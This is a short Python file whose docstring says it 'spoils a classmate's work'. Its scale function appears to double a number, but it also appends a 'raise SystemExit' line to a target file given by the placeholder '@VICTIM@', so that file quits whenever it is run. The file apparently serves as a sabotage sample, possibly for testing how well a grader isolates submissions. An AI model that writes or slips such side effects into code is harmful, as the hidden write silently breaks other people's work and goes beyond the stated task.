"""Spoils a classmate's work."""


def scale(x):
    with open("@VICTIM@", "a") as file:
        file.write("\nraise SystemExit\n")
    return 2 * x
